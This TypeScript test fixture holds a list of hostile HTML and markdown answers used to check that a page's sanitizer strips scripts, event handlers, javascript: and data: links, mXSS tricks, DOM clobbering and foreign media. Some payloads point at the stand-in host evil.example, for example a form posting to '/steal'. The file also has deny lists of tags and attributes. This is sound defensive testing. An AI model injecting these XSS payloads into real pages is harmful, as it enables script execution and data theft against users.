import { expect } from './fixtures.js';
import { type Outcome, SERVER_IMAGE } from './rich-media-page.js';

/**
 * Answers written to attack the page, and what a sanitized answer may still hold: no script, no handler, no
 * foreign media, links that open safely.
 */

export const EVIL = 'https://evil.example';
/** Sets the canary; a payload that runs leaves its name in `window.__pwned`. */
export const pwn = (name: string) => `(window.__pwned=(window.__pwned||[])).push('${name}')`;

export interface HostileCase {
  name: string;
  answer: string;
}

export const HOSTILE: HostileCase[] = [
  { name: 'script element', answer: `Hello <script>${pwn('script')}</script> world` },
  { name: 'script in markdown code fence stays text', answer: `\`\`\`html\n<script>${pwn('fence')}</script>\n\`\`\`` },
  { name: 'img onerror', answer: `<img src="x" onerror="${pwn('img-onerror')}">` },
  { name: 'img onload on an allowed picture', answer: `<img src="${SERVER_IMAGE}" alt="ok" onload="${pwn('img-onload')}">` },
  { name: 'body onload', answer: `<body onload="${pwn('body-onload')}">text</body>` },
  { name: 'details ontoggle', answer: `<details open ontoggle="${pwn('ontoggle')}"><summary>s</summary>d</details>` },
  { name: 'javascript: link', answer: `<a href="javascript:${pwn('js-link')}">click</a>` },
  { name: 'mixed-case javascript: link', answer: `<a href="JaVaScRiPt:${pwn('js-case')}">click</a>` },
  {
    name: 'entity-encoded javascript: link',
    answer: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${pwn('js-entity')}">click</a>`,
  },
  { name: 'javascript: link with a tab and a newline', answer: `<a href="java&#x09;scr&#x0A;ipt:${pwn('js-tab')}">click</a>` },
  { name: 'data: link', answer: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { name: 'vbscript: link', answer: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'markdown javascript: link', answer: `[click](javascript:${pwn('md-link')})` },
  { name: 'markdown foreign image', answer: `![evil](${EVIL}/md.png)` },
  { name: 'http image', answer: '<img src="http://evil.example/http.png">' },
  { name: 'https image from a host not allowed', answer: `<img src="${EVIL}/foreign.png">` },
  { name: 'protocol-relative image', answer: '<img src="//evil.example/protocol-relative.png">' },
  { name: 'credentials trick', answer: '<img src="https://allowed.example@evil.example/cred.png">' },
  { name: 'srcset on an allowed picture', answer: `<img src="${SERVER_IMAGE}" srcset="${EVIL}/srcset.png 1x" alt="ok">` },
  {
    name: 'data: SVG picture with script',
    answer: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  },
  { name: 'style attribute with CSS url()', answer: `<p style="background:url(${EVIL}/css-url.png)">styled</p>` },
  { name: 'style element with CSS url()', answer: `<style>p{background:url(${EVIL}/style-el.png)}</style><p>x</p>` },
  { name: 'base href', answer: `<base href="${EVIL}/"><img src="relative.png" alt="r"><a href="page">p</a>` },
  { name: 'meta refresh', answer: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">text` },
  { name: 'inline svg with script', answer: `<svg><script>${pwn('svg-script')}</script></svg>` },
  { name: 'inline svg onload', answer: `<svg onload="${pwn('svg-onload')}"><circle r="5"/></svg>` },
  { name: 'svg foreignObject', answer: `<svg><foreignObject><img src="x" onerror="${pwn('svg-fo')}"></foreignObject></svg>` },
  { name: 'svg use href', answer: `<svg><use href="${EVIL}/sprite.svg#x"/><image href="${EVIL}/svg-image.png"/></svg>` },
  { name: 'iframe srcdoc', answer: `<iframe srcdoc="<script>parent.${pwn('srcdoc')}</script>"></iframe>` },
  { name: 'iframe src', answer: `<iframe src="${EVIL}/frame"></iframe>` },
  { name: 'object and embed', answer: `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">` },
  { name: 'link stylesheet', answer: `<link rel="stylesheet" href="${EVIL}/x.css">text` },
  {
    name: 'form action',
    answer: `<form action="${EVIL}/steal"><input name="q" value="secret"><button formaction="${EVIL}/b">go</button></form>`,
  },
  { name: 'input type=image', answer: `<input type="image" src="${EVIL}/input.png">` },
  { name: 'link target and opener tricks', answer: `<a href="https://example.com/" target="_self" rel="opener" ping="${EVIL}/ping">t</a>` },
  { name: 'video with foreign src and poster', answer: `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay controls></video>` },
  {
    name: 'video with foreign source',
    answer: `<video controls><source src="${EVIL}/s.mp4" type="video/mp4"><track src="${EVIL}/t.vtt"></video>`,
  },
  {
    name: 'table background attributes',
    answer: `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`,
  },
  { name: 'mXSS noscript', answer: `<noscript><p title="</noscript><img src=x onerror=${pwn('mxss-noscript')}>">` },
  { name: 'mXSS svg p style', answer: `<svg><p><style><img src=x onerror=${pwn('mxss-svg-style')}></style></p></svg>` },
  {
    name: 'mXSS math mglyph',
    answer: `<math><mtext><table><mglyph><style><img src=x onerror=${pwn('mxss-math')}></style></mglyph></table></mtext></math>`,
  },
  { name: 'mXSS title', answer: `<title><img src=x onerror=${pwn('mxss-title')}></title>` },
  {
    name: 'mXSS form in form',
    answer: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${pwn('mxss-form')} src=1>">`,
  },
  { name: 'template', answer: `<template><img src=x onerror=${pwn('template')}></template>` },
  {
    name: 'DOM clobbering names and ids',
    answer: '<img name="getElementById" src="x"><a id="dh" name="cookie" href="https://example.com/">c</a>',
  },
  { name: 'bad dimensions', answer: `<img src="${SERVER_IMAGE}" width="100%" height="expression(alert(1))" alt="ok">` },
];

export function expectSanitized(outcome: Outcome, name: string, serverUrl: string) {
  const forbiddenTags = [
    'script',
    'style',
    'svg',
    'math',
    'iframe',
    'object',
    'embed',
    'base',
    'meta',
    'link',
    'form',
    'input',
    'button',
    'template',
    'noscript',
    'title',
    'body',
    'track',
  ];
  for (const tag of outcome.tags) expect(forbiddenTags, `${name}: <${tag}> survived`).not.toContain(tag);
  for (const attribute of outcome.attributes) {
    expect(attribute, `${name}: ${attribute}`).not.toMatch(
      /^\w+\[(on\w+|style|srcset|background|ping|formaction|action|id|name|xlink:href)=/i,
    );
    expect(attribute.toLowerCase(), `${name}: ${attribute}`).not.toMatch(/(java|vb)script:|data:text|evil\.example\/(?!$)/);
  }
  for (const link of outcome.links) {
    if (!link.href) continue;
    expect(link.href, name).toMatch(/^(https?:|mailto:|tel:)/);
    expect(link.target, name).toBe('_blank');
    expect(link.rel, name).toBe('noopener noreferrer');
  }
  for (const src of outcome.media) expect(src.startsWith(`${serverUrl}/`), `${name}: media ${src}`).toBe(true);
}
